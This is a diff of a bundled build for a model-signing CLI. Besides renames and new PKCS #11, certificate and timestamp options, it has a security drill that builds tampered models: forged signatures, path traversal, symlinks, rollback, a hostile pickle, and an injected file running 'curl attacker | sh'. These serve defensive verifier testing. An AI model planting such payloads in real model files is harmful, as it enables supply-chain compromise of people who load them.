   }
-  if (st2.isFile()) return summarise(target, [await scanFile(target, path19.basename(target), limits)], [], opts.failOn);
+  if (st2.isFile()) return summarise(target, [await scanFile(target, path20.basename(target), limits)], [], opts.failOn);
   if (!st2.isDirectory() && !st2.isSymbolicLink()) throw usage("SPECIAL_FILE", `not a file, directory or archive: ${target}`);
   const listing = await enumerateModel(target, { ignorePaths: [], allowSymlinks: false, maxFiles: limits.maxFiles });
   if (listing.isFile) {
@@ -60259,16 +61044,16 @@ var init_scan_path = __esm({
 import { constants as constants6 } from "node:fs";
 import { open as open7 } from "node:fs/promises";
 function lineProblem(line, lineNo, expectPrev) {
-  let text;
+  let text2;
   try {
-    text = UTF8.decode(line);
+    text2 = UTF8.decode(line);
   } catch {
     return "not UTF-8";
   }
-  if (text.length === 0) return "empty line";
+  if (text2.length === 0) return "empty line";
   let rec;
   try {
-    rec = parseStrictJson(text, { what: "audit record", code: "AUDIT_CHAIN_BROKEN", maxDepth: 8 });
+    rec = parseStrictJson(text2, { what: "audit record", code: "AUDIT_CHAIN_BROKEN", maxDepth: 8 });
   } catch (e) {
     return e.message;
   }
@@ -60442,7 +61227,7 @@ var init_hostile = __esm({
 
 // src/drill/model.ts
 import { mkdir as mkdir3, writeFile as writeFile3 } from "node:fs/promises";
-import path20 from "node:path";
+import path21 from "node:path";
 function filler(n, seed) {
   const b2 = Buffer.alloc(n);
   let x = seed >>> 0 || 1;
@@ -60461,12 +61246,12 @@ function safetensorsShard(tensor, data) {
   return Buffer.concat([len, header, data]);
 }
 async function writeModel(dir, seed = 1) {
-  await mkdir3(path20.join(dir, "tokenizer"), { recursive: true });
-  await writeFile3(path20.join(dir, SHARD_1), safetensorsShard("a.weight", filler(64 * 1024, seed)));
-  await writeFile3(path20.join(dir, SHARD_2), safetensorsShard("b.weight", filler(64 * 1024, seed + 1)));
-  await writeFile3(path20.join(dir, "model.safetensors.index.json"), JSON.stringify({ weight_map: { "a.weight": SHARD_1, "b.weight": SHARD_2 } }));
-  await writeFile3(path20.join(dir, "config.json"), JSON.stringify({ architectures: ["LlamaForCausalLM"], hidden_size: 64, seed }));
-  await writeFile3(path20.join(dir, "tokenizer", "tokenizer.json"), JSON.stringify({ version: "1.0", model: { vocab: { a: 0, b: 1 } } }));
+  await mkdir3(path21.join(dir, "tokenizer"), { recursive: true });
+  await writeFile3(path21.join(dir, SHARD_1), safetensorsShard("a.weight", filler(64 * 1024, seed)));
+  await writeFile3(path21.join(dir, SHARD_2), safetensorsShard("b.weight", filler(64 * 1024, seed + 1)));
+  await writeFile3(path21.join(dir, "model.safetensors.index.json"), JSON.stringify({ weight_map: { "a.weight": SHARD_1, "b.weight": SHARD_2 } }));
+  await writeFile3(path21.join(dir, "config.json"), JSON.stringify({ architectures: ["LlamaForCausalLM"], hidden_size: 64, seed }));
+  await writeFile3(path21.join(dir, "tokenizer", "tokenizer.json"), JSON.stringify({ version: "1.0", model: { vocab: { a: 0, b: 1 } } }));
   return dir;
 }
 async function signDrillModel(dir, key, o = {}) {
@@ -60504,18 +61289,18 @@ var init_types4 = __esm({
 
 // src/drill/attacks.ts
 import { execFileSync } from "node:child_process";
-import { createHash as createHash6, generateKeyPairSync as generateKeyPairSync2 } from "node:crypto";
+import { createHash as createHash9, generateKeyPairSync as generateKeyPairSync2 } from "node:crypto";
 import { appendFile, copyFile, mkdir as mkdir4, readFile, rename as rename3, rm as rm2, symlink, writeFile as writeFile4 } from "node:fs/promises";
 import { rmSync } from "node:fs";
-import path21 from "node:path";
+import path22 from "node:path";
 async function readSigned(model) {
-  const bundle = JSON.parse(await readFile(path21.join(model, "model.sig"), "utf8"));
+  const bundle = JSON.parse(await readFile(path22.join(model, "model.sig"), "utf8"));
   const statement = JSON.parse(Buffer.from(bundle.dsseEnvelope.payload, "base64").toString("utf8"));
   return { bundle, statement };
 }
 async function writeSignedPayload(model, payload, key) {
   const bundle = await keySigner(key.priv, key.pub)(Buffer.from(payload, "utf8"));
-  await writeFile4(path21.join(model, "model.sig"), serializeBundle(bundle));
+  await writeFile4(path22.join(model, "model.sig"), serializeBundle(bundle));
 }
 async function signedWithExtraResource(ctx, dirName, extra) {
   const m2 = await ctx.copyBase(dirName);
@@ -60528,7 +61313,7 @@ async function signedWithExtraResource(ctx, dirName, extra) {
 }
 function canMakeFifo(dir) {
   if (process.platform === "win32") return false;
-  const probe = path21.join(dir, ".fifo-probe");
+  const probe = path22.join(dir, ".fifo-probe");
   try {
     execFileSync("mkfifo", [probe], { stdio: "ignore" });
     rmSync(probe, { force: true });
@@ -60538,7 +61323,7 @@ function canMakeFifo(dir) {
   }
 }
 async function emptyStore(ctx, name2) {
-  const dir = path21.join(ctx.tmp, name2);
+  const dir = path22.join(ctx.tmp, name2);
   await mkdir4(dir, { recursive: true });
   return dir;
 }
@@ -60554,7 +61339,7 @@ var init_attacks = __esm({
     init_hostile();
     init_model();
     init_types4();
-    sha256 = (b2) => createHash6("sha256").update(b2).digest("hex");
+    sha256 = (b2) => createHash9("sha256").update(b2).digest("hex");
     ATTACKS = [
       {
         id: "changed-byte",
@@ -60562,7 +61347,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("changed-byte");
-          const f2 = path21.join(m2, SHARD_1);
+          const f2 = path22.join(m2, SHARD_1);
           const b2 = await readFile(f2);
           const i = b2.length >> 1;
           b2[i] = b2[i] ^ 1;
@@ -60576,7 +61361,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("injected-file");
-          await writeFile4(path21.join(m2, "modeling_llama.py"), 'import os\nos.system("curl attacker | sh")\n');
+          await writeFile4(path22.join(m2, "modeling_llama.py"), 'import os\nos.system("curl attacker | sh")\n');
           return { model: m2 };
         }
       },
@@ -60586,7 +61371,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("removed-shard");
-          await rm2(path21.join(m2, SHARD_2));
+          await rm2(path22.join(m2, SHARD_2));
           return { model: m2 };
         }
       },
@@ -60596,9 +61381,9 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("renamed-file");
-          await rename3(path21.join(m2, SHARD_1), path21.join(m2, "tmp"));
-          await rename3(path21.join(m2, SHARD_2), path21.join(m2, SHARD_1));
-          await rename3(path21.join(m2, "tmp"), path21.join(m2, SHARD_2));
+          await rename3(path22.join(m2, SHARD_1), path22.join(m2, "tmp"));
+          await rename3(path22.join(m2, SHARD_2), path22.join(m2, SHARD_1));
+          await rename3(path22.join(m2, "tmp"), path22.join(m2, SHARD_2));
           return { model: m2 };
         }
       },
@@ -60607,10 +61392,10 @@ var init_attacks = __esm({
         title: "another model's valid signature (same signer) put beside this model",
         needs: ["trusted-signature"],
         async build(ctx) {
-          const other = await writeModel(path21.join(ctx.tmp, "other-model"), 99);
+          const other = await writeModel(path22.join(ctx.tmp, "other-model"), 99);
           await signDrillModel(other, ctx.signer, { license: ctx.licenses.allowed });
           const m2 = await ctx.copyBase("swapped-signature");
-          await copyFile(path21.join(other, "model.sig"), path21.join(m2, "model.sig"));
+          await copyFile(path22.join(other, "model.sig"), path22.join(m2, "model.sig"));
           return { model: m2 };
         }
       },
@@ -60619,7 +61404,7 @@ var init_attacks = __esm({
         title: "the model re-signed by a key the set-up does not trust",
         needs: [],
         async build(ctx) {
-          const m2 = path21.join(ctx.tmp, "untrusted-key");
+          const m2 = path22.join(ctx.tmp, "untrusted-key");
           await writeModel(m2, 7);
           const kp = generateKeyPairSync2("ed25519");
           await signDrillModel(m2, { priv: kp.privateKey, pub: kp.publicKey });
@@ -60631,7 +61416,7 @@ var init_attacks = __esm({
         title: "the signature file removed",
         needs: [],
         async build(ctx) {
-          const m2 = path21.join(ctx.tmp, "missing-signature");
+          const m2 = path22.join(ctx.tmp, "missing-signature");
           await writeModel(m2, 8);
           return { model: m2 };
         }
@@ -60643,13 +61428,13 @@ var init_attacks = __esm({
         async build(ctx) {
           const m2 = await ctx.copyBase("edited-payload");
           const evil = safetensorsShard("a.weight", filler(64 * 1024, 666));
-          await writeFile4(path21.join(m2, SHARD_1), evil);
+          await writeFile4(path22.join(m2, SHARD_1), evil);
           const { bundle, statement } = await readSigned(m2);
           const r = statement.predicate.resources.find((x) => x.name === SHARD_1);
           r.digest = sha256(evil);
           statement.subject[0].digest.sha256 = rootDigest(statement.predicate.resources);
           bundle.dsseEnvelope.payload = Buffer.from(JSON.stringify(statement)).toString("base64");
-          await writeFile4(path21.join(m2, "model.sig"), JSON.stringify(bundle, null, 2));
+          await writeFile4(path22.join(m2, "model.sig"), JSON.stringify(bundle, null, 2));
           return { model: m2 };
         }
       },
@@ -60659,12 +61444,12 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("two-manifests");
-          await writeFile4(path21.join(m2, "modeling_llama.py"), "import os\n");
+          await writeFile4(path22.join(m2, "modeling_llama.py"), "import os\n");
           const { statement } = await readSigned(m2);
           const evil = JSON.parse(JSON.stringify(statement));
           evil.predicate.resources.push({ name: "modeling_llama.py", algorithm: "sha256", digest: sha256("import os\n") });
-          const text = JSON.stringify(statement).replace(/}$/, `,"predicate":${JSON.stringify(evil.predicate)}}`);
-          await writeSignedPayload(m2, text, ctx.signer);
+          const text2 = JSON.stringify(statement).replace(/}$/, `,"predicate":${JSON.stringify(evil.predicate)}}`);
+          await writeSignedPayload(m2, text2, ctx.signer);
           return { model: m2 };
         }
       },
@@ -60673,7 +61458,7 @@ var init_attacks = __esm({
         title: 'signed manifest names "../secret.bin", a file outside the model with the signed digest',
         needs: ["trusted-signature"],
         async build(ctx) {
-          const outside = path21.join(ctx.tmp, "secret.bin");
+          const outside = path22.join(ctx.tmp, "secret.bin");
           await writeFile4(outside, "outside the model\n");
           return { model: await signedWithExtraResource(ctx, "traversal", { name: "../secret.bin", digest: sha256("outside the model\n") }) };
         }
@@ -60683,7 +61468,7 @@ var init_attacks = __esm({
         title: "signed manifest names an absolute path outside the model",
         needs: ["trusted-signature"],
         async build(ctx) {
-          const outside = path21.join(ctx.tmp, "secret-abs.bin");
+          const outside = path22.join(ctx.tmp, "secret-abs.bin");
           await writeFile4(outside, "outside the model (absolute)\n");
           return { model: await signedWithExtraResource(ctx, "absolute-path", { name: outside, digest: sha256("outside the model (absolute)\n") }) };
         }
@@ -60694,10 +61479,10 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("symlink-out");
-          const outside = path21.join(ctx.tmp, "config-copy.json");
-          await copyFile(path21.join(m2, "config.json"), outside);
-          await rm2(path21.join(m2, "config.json"));
-          await symlink(outside, path21.join(m2, "config.json"));
+          const outside = path22.join(ctx.tmp, "config-copy.json");
+          await copyFile(path22.join(m2, "config.json"), outside);
+          await rm2(path22.join(m2, "config.json"));
+          await symlink(outside, path22.join(m2, "config.json"));
           return { model: m2 };
         }
       },
@@ -60707,10 +61492,10 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("symlink-in");
-          await mkdir4(path21.join(m2, ".git"));
-          await copyFile(path21.join(m2, "config.json"), path21.join(m2, ".git", "config.json"));
-          await rm2(path21.join(m2, "config.json"));
-          await symlink(path21.join(".git", "config.json"), path21.join(m2, "config.json"));
+          await mkdir4(path22.join(m2, ".git"));
+          await copyFile(path22.join(m2, "config.json"), path22.join(m2, ".git", "config.json"));
+          await rm2(path22.join(m2, "config.json"));
+          await symlink(path22.join(".git", "config.json"), path22.join(m2, "config.json"));
           return { model: m2 };
         }
       },
@@ -60720,7 +61505,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature", "fifo"],
         async build(ctx) {
           const m2 = await ctx.copyBase("fifo");
-          execFileSync("mkfifo", [path21.join(m2, "pipe.bin")]);
+          execFileSync("mkfifo", [path22.join(m2, "pipe.bin")]);
           return { model: m2 };
         }
       },
@@ -60730,7 +61515,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("appended-bytes");
-          await appendFile(path21.join(m2, SHARD_2), Buffer.from("PK trailing payload"));
+          await appendFile(path22.join(m2, SHARD_2), Buffer.from("PK trailing payload"));
           return { model: m2 };
         }
       },
@@ -60739,9 +61524,9 @@ var init_attacks = __esm({
         title: "an older signed version presented after a newer one was verified (version rollback)",
         needs: ["trusted-signature"],
         async build(ctx) {
-          const stateFile = path21.join(ctx.tmp, "rollback-state.json");
+          const stateFile = path22.join(ctx.tmp, "rollback-state.json");
           const setup = { storeDir: await emptyStore(ctx, "rollback-store"), stateFile };
-          const newer = path21.join(ctx.tmp, "rollback-newer");
+          const newer = path22.join(ctx.tmp, "rollback-newer");
           await writeModel(newer, 21);
           await signDrillModel(newer, ctx.signer, { version: "2.0.0", license: ctx.licenses.allowed });
           const r = await ctx.verify(newer, setup);
@@ -60756,12 +61541,12 @@ var init_attacks = __esm({
         title: "a correctly signed fine-tune of a revoked base model",
         needs: ["trusted-signature"],
         async build(ctx) {
-          const parentBundle = await readFile(path21.join(ctx.base, "model.sig"));
+          const parentBundle = await readFile(path22.join(ctx.base, "model.sig"));
           const { statement } = await readSigned(ctx.base);
           const parentDigest = `sha256:${statement.subject[0].digest.sha256}`;
-          const storeDir = path21.join(ctx.tmp, "revoked-store");
+          const storeDir = path22.join(ctx.tmp, "revoked-store");
           await recordBundle(storeDir, { name: DRILL_MODEL_NAME, version: "1.0.0", rootDigest: parentDigest }, parentBundle);
-          const m2 = path21.join(ctx.tmp, "revoked-ancestor");
+          const m2 = path22.join(ctx.tmp, "revoked-ancestor");
           await writeModel(m2, 31);
           const lineage = { parents: [{ name: DRILL_MODEL_NAME, version: "1.0.0", rootDigest: parentDigest, bundleDigest: bundleDigestOf(parentBundle), relation: "finetune" }] };
           await signDrillModel(m2, ctx.signer, { name: "drill-finetune", license: ctx.licenses.allowed, extra: { lineage } });
@@ -60775,7 +61560,7 @@ var init_attacks = __esm({
         async build(ctx) {
           const lic = ctx.licenses.outside;
           if (lic === void 0) throw new AttackNotApplicable("the policy allows every license the drill tried (it has no license rule that refuses one)");
-          const m2 = path21.join(ctx.tmp, "license-outside-policy");
+          const m2 = path22.join(ctx.tmp, "license-outside-policy");
           await writeModel(m2, 41);
           await signDrillModel(m2, ctx.signer, { license: lic });
           return { model: m2 };
@@ -60787,9 +61572,9 @@ var init_attacks = __esm({
         // No feature need: a set-up without scanning (policy formats) accepts it, and that is MISSED.
         needs: ["trusted-signature"],
         async build(ctx) {
-          const m2 = path21.join(ctx.tmp, "hostile-pickle");
+          const m2 = path22.join(ctx.tmp, "hostile-pickle");
           await writeModel(m2, 51);
-          await writeFile4(path21.join(m2, "pytorch_model.bin"), hostileTorchCheckpoint());
+          await writeFile4(path22.join(m2, "pytorch_model.bin"), hostileTorchCheckpoint());
           await signDrillModel(m2, ctx.signer, { license: ctx.licenses.allowed });
           return { model: m2 };
         }
@@ -60801,13 +61586,13 @@ var init_attacks = __esm({
 // src/drill/run.ts
 import { cp, mkdir as mkdir5, mkdtemp as mkdtemp2, rm as rm3 } from "node:fs/promises";
 import os6 from "node:os";
-import path22 from "node:path";
+import path23 from "node:path";
 async function runDrill(opts) {
-  const tmp = await mkdtemp2(path22.join(os6.tmpdir(), "modelsign-drill-"));
+  const tmp = await mkdtemp2(path23.join(os6.tmpdir(), "modelsign-drill-"));
   try {
-    const base2 = path22.join(tmp, "base-model");
+    const base2 = path23.join(tmp, "base-model");
     await writeModel(base2, 1);
-    const store = path22.join(tmp, "lineage-store");
+    const store = path23.join(tmp, "lineage-store");
     await mkdir5(store);
     const defaultSetup = { storeDir: store };
     let baseline;
@@ -60831,7 +61616,7 @@ async function runDrill(opts) {
       ...opts.signer ? { signer: opts.signer } : {},
       base: base2,
       copyBase: async (name2) => {
-        const dest = path22.join(tmp, name2);
+        const dest = path23.join(tmp, name2);
         await cp(base2, dest, { recursive: true });
         return dest;
       },
@@ -60897,7 +61682,7 @@ var init_run = __esm({
 });
 
 // src/drill/verifier.ts
-import path23 from "node:path";
+import path24 from "node:path";
 async function pickLicenses(policy, purpose) {
   const rule = policy?.rules[purpose];
   if (!policy || policy.license === void 0 || !rule) return { allowed: DEFAULT_DRILL_LICENSE };
@@ -60926,7 +61711,7 @@ async function drillVerifier(cfg) {
   } else {
     const { policyTrust: policyTrust2 } = await Promise.resolve().then(() => (init_trust(), trust_exports));
     const file = policy.file;
-    trust = await policyTrust2(policy.trust, (f2) => path23.relative(path23.dirname(file), f2));
+    trust = await policyTrust2(policy.trust, (f2) => path24.relative(path24.dirname(file), f2));
     trustDesc = `trust section of ${cfg.policy}`;
   }
   if (trust.length === 0) throw usage("MISSING_OPTION", `drill needs something to trust: the policy ${cfg.policy} trusts nobody, so give --key PUBLIC_KEY`);
@@ -62674,8 +63459,8 @@ __export(keyless_exports, {
   keylessEndpoints: () => keylessEndpoints,
   keylessSigner: () => keylessSigner
 });
-import { X509Certificate as X509Certificate3 } from "node:crypto";
-function checkUrl(name2, u2) {
+import { X509Certificate as X509Certificate5 } from "node:crypto";
+function checkUrl2(name2, u2) {
   let parsed;
   try {
     parsed = new URL(u2);
@@ -62691,9 +63476,9 @@ function keylessEndpoints(opts) {
   const base2 = opts.staging ? STAGING : { ...PUBLIC_GOOD, tsaURL: void 0 };
   const tsa = opts.tsaURL ?? base2.tsaURL;
   return {
-    fulcioURL: checkUrl("--fulcio-url", opts.fulcioURL ?? base2.fulcioURL),
-    rekorURL: checkUrl("--rekor-url", opts.rekorURL ?? base2.rekorURL),
-    tsaURL: tsa === void 0 ? void 0 : checkUrl("--tsa-url", tsa)
+    fulcioURL: checkUrl2("--fulcio-url", opts.fulcioURL ?? base2.fulcioURL),
+    rekorURL: checkUrl2("--rekor-url", opts.rekorURL ?? base2.rekorURL),
+    tsaURL: tsa === void 0 ? void 0 : checkUrl2("--tsa-url", tsa)
   };
 }
 function checkTokenShape(token, source) {
@@ -62731,7 +63516,7 @@ function bundleIdentity(bundle) {
   const raw = bundle.verificationMaterial?.certificate?.rawBytes;
   if (!raw) return void 0;
   try {
-    const san = new X509Certificate3(Buffer.from(raw, "base64")).subjectAltName;
+    const san = new X509Certificate5(Buffer.from(raw, "base64")).subjectAltName;
     return san?.replace(/^(email|URI|DNS):/, "") ?? void 0;
   } catch {
     return void 0;
@@ -62811,7 +63596,9 @@ __export(index_exports, {
   formatsStage: () => formatsStage,
   generateKeyPair: () => generateKeyPair,
   isArchivePath: () => isArchivePath,
+  isPkcs11Uri: () => isPkcs11Uri,
   keyHint: () => keyHint,
+  keyObjectSigner: () => keyObjectSigner,
   keySigner: () => keySigner,
   keyTrust: () => keyTrust,
   keyTypeOf: () => keyTypeOf,
@@ -62821,18 +63608,23 @@ __export(index_exports, {
   loadPolicy: () => loadPolicy,
   loadPrivateKey: () => loadPrivateKey,
   loadPublicKey: () => loadPublicKey,
+  loadSigningCertificates: () => loadSigningCertificates,
   loadTrustedRoot: () => loadTrustedRoot,
+  methodSigner: () => methodSigner,
   normalizeLicense: () => normalizeLicense,
+  openPkcs11Key: () => openPkcs11Key,
   openStore: () => openStore,
   pae: () => pae,
   parseBundle: () => parseBundle,
   parseLineageMeta: () => parseLineageMeta,
+  parsePkcs11Uri: () => parsePkcs11Uri,
   parsePolicyText: () => parsePolicyText,
   parsePublicKey: () => parsePublicKey,
   parseRevokedList: () => parseRevokedList,
   parseStatement: () => parseStatement,
   policyStage: () => policyStage,
   policyTrust: () => policyTrust,
+  prepareKeySigner: () => prepareKeySigner,
   publicKeyPem: () => publicKeyPem,
   pythonBytesRepr: () => pythonBytesRepr,
   readBundleFile: () => readBundleFile,
@@ -62840,6 +63632,7 @@ __export(index_exports, {
   readRevokedFile: () => readRevokedFile,
   readState: () => readState,
   recordVerified: () => recordVerified,
+  redactPkcs11Uri: () => redactPkcs11Uri,
   rootDigest: () => rootDigest,
   runDrill: () => runDrill,
   scanArchive: () => scanArchive,
@@ -62849,12 +63642,15 @@ __export(index_exports, {
   signBytes: () => signBytes,
   signModel: () => signModel,
   sigstoreTrust: () => sigstoreTrust,
+  timestampAuthorityTrust: () => timestampAuthorityTrust,
+  timestampClient: () => timestampClient,
   updateTrustedRoot: () => updateTrustedRoot,
   validatePolicy: () => validatePolicy,
   verify: () => verifyModel,
   verifyBytes: () => verifyBytes,
   verifyWithKeys: () => verifyWithKeys,
   walkLineage: () => walkLineage,
+  withTimestamps: () => withTimestamps,
   writeKeyPair: () => writeKeyPair
 });
 async function verifyWithKeys(opts) {
@@ -62900,6 +63696,13 @@ var init_index = __esm({
     init_trust_sigstore();
     init_keyless();
     init_trusted_root();
+    init_method();
+    init_certificate();
+    init_timestamp2();
+    init_pkcs11();
+    init_pkcs11_uri();
+    init_signer();
+    init_timestamp();
     init_types4();
     sign = signWithKey;
   }
@@ -62909,6 +63712,7 @@ var init_index = __esm({
 function hashingOptions(o) {
   return {
     ignorePaths: o.ignorePaths ?? [],
+    ignoreGitPaths: o.ignoreGitPaths ?? true,
     allowSymlinks: o.allowSymlinks ?? false,
     hash: o.hash ?? "sha256",
     ...o.shardSize ? { shardSize: o.shardSize } : {}
@@ -62921,7 +63725,7 @@ function addEngineOptions(cmd) {
   return cmd.option("--jobs <n>", "hashing threads (default: one per core)", parsePositiveInt("--jobs"));
 }
 function addSerializationOptions(cmd) {
-  return cmd.addOption(new Option("--hash <alg>", "hash algorithm for file digests").choices(["sha256", "blake2b", "blake3"]).default("sha256")).option("--shard-size <bytes>", 'hash files in shards of this many bytes (OMS "shards" method; parallel on one big file)', parsePositiveInt("--shard-size")).option("--allow-symlinks", "follow symlinks that stay inside the model");
+  return cmd.addOption(new Option("--hash <alg>", "hash algorithm for file digests").choices(["sha256", "blake2b", "blake3"]).default("sha256")).option("--shard-size <bytes>", 'hash files in shards of this many bytes (OMS "shards" method; parallel on one big file)', parsePositiveInt("--shard-size")).option("--allow-symlinks", "follow symlinks that stay inside the model").option("--no-ignore-git-paths", "sign .git, .github, .gitattributes and .gitignore too (left out by default)");
 }
 var init_common = __esm({
   "src/cli/common.ts"() {
@@ -63056,10 +63860,10 @@ async function prepareLineage(model, o) {
     if ((o.parentKey ?? []).length > 0) {
       trust = await keyFileTrust2(o.parentKey);
     } else {
-      if (!o.key) throw usage("MISSING_OPTION", "--parent needs --parent-key PUB when signing without --key");
-      const { createPublicKey: createPublicKey3 } = await import("node:crypto");
+      if (!o.key || /^pkcs11:/i.test(o.key)) throw usage("MISSING_OPTION", `--parent needs --parent-key PUB when signing ${o.key ? "with a PKCS #11 key" : "without --key"}`);
+      const { createPublicKey: createPublicKey5 } = await import("node:crypto");
       key = await loadPrivateKey2(o.key);
-      trust = [keyTrust2(createPublicKey3(key), `signing key ${o.key}`)];
+      trust = [keyTrust2(createPublicKey5(key), `signing key ${o.key}`)];
     }
     loaded2 = await loadParents2(parents, trust);
   }
@@ -63139,7 +63943,7 @@ async function signKeyless(model, o, lineage) {
     ...hashingOptions(o),
     engine
   });
-  await reportSigned(r, model, o, engine, lineage, {
+  await reportSigned(r, o, engine, lineage, {
     json: { keyless: { identity: identity ?? null, fulcio: ep.fulcioURL, rekor: ep.rekorURL, tsa: ep.tsaURL ?? null } },
     text: `
   identity:    ${identity ?? "(unknown)"} (Sigstore keyless, logged in ${ep.rekorURL})`
@@ -63161,8 +63965,21 @@ var sign_exports2 = {};
 __export(sign_exports2, {
   register: () => register
 });
+function pkcs11Options(o) {
+  const module = o.pkcs11Module ?? process.env.MODELSIGN_PKCS11_MODULE;
+  return {
+    ...module ? { module } : {},
+    pin: () => {
+      const env = process.env.MODELSIGN_PKCS11_PIN;
+      if (env !== void 0) return env;
+      const typed = process.stdin.isTTY || process.stderr.isTTY ? promptTty("PKCS #11 token PIN: ") : void 0;
+      if (typed === void 0) throw usage("NO_PIN", "the token needs a PIN: set MODELSIGN_PKCS11_PIN, run on a terminal, or add pin-source to the URI");
+      return typed;
+    }
+  };
+}
 function register(program2) {
-  const cmd = program2.command("sign").description("hash a model and write a signed OMS v1.0 manifest (Sigstore bundle)").argument("<model>", "model directory, single file or .tar/.tar.gz/.tgz archive").option("--key <file>", "private key (modelsign/cosign encrypted PEM, or plain PKCS#8/SEC1 PEM)").option("--version <semver>", "model version, e.g. 1.2.0 (required)").option("--name <name>", "model name (default: the directory or file name)").option("--license <id>", "license: a Hugging Face license id or SPDX expression").option("--signature <file>", "where to write the signature (default: MODEL/model.sig, or MODEL.sig for a file)").option("--json", "print the result as JSON").option("--keyless", "sign with Sigstore keyless (Fulcio certificate for your OIDC identity + Rekor entry) instead of --key").option("--identity-token <token>", "keyless: OIDC token (default: SIGSTORE_ID_TOKEN, or GitHub Actions ambient credentials)").option("--fulcio-url <url>", "keyless: Fulcio instance (default https://fulcio.sigstore.dev)").option("--rekor-url <url>", "keyless: Rekor instance (default https://rekor.sigstore.dev)").option("--tsa-url <url>", "keyless: RFC 3161 timestamp authority to also timestamp the signature").option("--staging", "keyless: use the Sigstore staging instance");
+  const cmd = program2.command("sign").description("hash a model and write a signed OMS v1.0 manifest (Sigstore bundle)").argument("<model>", "model directory, single file or .tar/.tar.gz/.tgz archive").option("--key <file|uri>", "private key: modelsign/cosign encrypted PEM, plain PKCS#8/SEC1 PEM, or a PKCS #11 URI (pkcs11:token=...;object=...)").option("--signing-certificate <leaf.pem>", "certificate for --key: the bundle carries it and the chain (x509CertificateChain) instead of a key hint").option("--certificate-chain <chain.pem>", "with --signing-certificate: the certificates that follow it (intermediates, maybe the root), in order; repeatable", collect, []).option("--pkcs11-module <lib.so>", "PKCS #11 module for a pkcs11: key whose URI names none (default: MODELSIGN_PKCS11_MODULE)").option("--version <semver>", "model version, e.g. 1.2.0 (required)").option("--name <name>", "model name (default: the directory or file name)").option("--license <id>", "license: a Hugging Face license id or SPDX expression").option("--signature <file>", "where to write the signature (default: MODEL/model.sig, or MODEL.sig for a file)").option("--json", "print the result as JSON").option("--keyless", "sign with Sigstore keyless (Fulcio certificate for your OIDC identity + Rekor entry) instead of --key").option("--identity-token <token>", "keyless: OIDC token (default: SIGSTORE_ID_TOKEN, or GitHub Actions ambient credentials)").option("--fulcio-url <url>", "keyless: Fulcio instance (default https://fulcio.sigstore.dev)").option("--rekor-url <url>", "keyless: Rekor instance (default https://rekor.sigstore.dev)").option("--tsa-url <url>", "RFC 3161 timestamp authority to also time-stamp the signature (key, certificate and keyless)").option("--staging", "keyless: use the Sigstore staging instance");
   addIgnoreOption(cmd);
   addSerializationOptions(cmd);
   addEngineOptions(cmd);
@@ -63174,20 +63991,25 @@ Examples:
   MODELSIGN_PASSPHRASE=... modelsign sign ./llama-ft --key keys/release.key --version 1.0.0 --license apache-2.0
   modelsign sign model.safetensors --key ci.key --version 2.1.0 --signature out/model.sig
   modelsign sign ./big-model --key release.key --version 3.0.0 --shard-size 1073741824
+  modelsign sign ./llama-ft --key release.key --signing-certificate release.crt --certificate-chain ca-chain.pem --version 1.0.0
+  modelsign sign ./llama-ft --key release.key --signing-certificate release.crt --tsa-url https://tsa.example/tsr --version 1.0.0
+  MODELSIGN_PKCS11_PIN=... modelsign sign ./llama-ft --key 'pkcs11:token=release;object=signing-key?module-path=/usr/lib/softhsm/libsofthsm2.so' --version 1.0.0
   modelsign sign ./llama-ft --keyless --version 1.0.0            # in GitHub Actions (id-token: write)
   modelsign sign ./llama-ft --keyless --identity-token "$TOKEN" --version 1.0.0
 
   modelsign sign ./llama-ft --key release.key --version 1.1.0 --parent ./llama/model.sig --record=manifests
   modelsign sign ./merged --key release.key --version 1.0.0 --parent a/model.sig --parent b/model.sig --relation merge
 
-Exit codes: 0 signed; 1 a --parent signature is not trusted or broken, or (--keyless) Fulcio,
-Rekor or the TSA failed; 2 usage error (bad flag, unreadable key, wrong passphrase, symlink or
+Exit codes: 0 signed; 1 a --parent signature is not trusted or broken, or the TSA (or, with
+--keyless, Fulcio or Rekor) failed; 2 usage error (bad flag, unreadable key, wrong passphrase or
+PIN, a certificate for another key or one that would not verify, an empty model, symlink or
 special file in the model, a parent with the same name and a version not lower than --version,
 a signature or store that cannot be written, a signature larger than verify reads, as with a
 tiny --shard-size). On exit 2 nothing was written.`
   ).action(
     run(async (model, o) => {
       if (o.keyless && o.key) throw usage("BAD_OPTION", "--keyless and --key exclude each other");
+      if (o.keyless && (o.signingCertificate || o.certificateChain?.length)) throw usage("BAD_OPTION", "--keyless gets its certificate from Fulcio: it takes no --signing-certificate or --certificate-chain");
       if (!o.key && !o.keyless) throw usage("MISSING_OPTION", "sign needs --key PRIVATE_KEY (or --keyless)");
       if (!o.version) throw usage("MISSING_OPTION", "sign needs --version SEMVER (e.g. --version 1.0.0)");
       if (o.license !== void 0) {
@@ -63205,6 +64027,10 @@ tiny --shard-size). On exit 2 nothing was written.`
       const r = await sign2({
         model,
         key: lineage.key ?? o.key,
+        ...o.signingCertificate ? { signingCertificate: o.signingCertificate } : {},
+        ...o.certificateChain?.length ? { certificateChain: o.certificateChain } : {},
+        ...o.tsaUrl !== void 0 ? { tsaUrl: o.tsaUrl } : {},
+        pkcs11: pkcs11Options(o),
         ...lineage.extraMetadata ? { extraMetadata: lineage.extraMetadata } : {},
         ...lineage.beforeWrite ? { beforeWrite: lineage.beforeWrite } : {},
         version: o.version,
@@ -63214,7 +64040,7 @@ tiny --shard-size). On exit 2 nothing was written.`
         ...hashingOptions(o),
         engine
       });
-      await reportSigned(r, model, o, engine, lineage);
+      await reportSigned(r, o, engine, lineage);
     })
   );
 }
@@ -63222,6 +64048,7 @@ var init_sign2 = __esm({
   "src/cli/sign.ts"() {
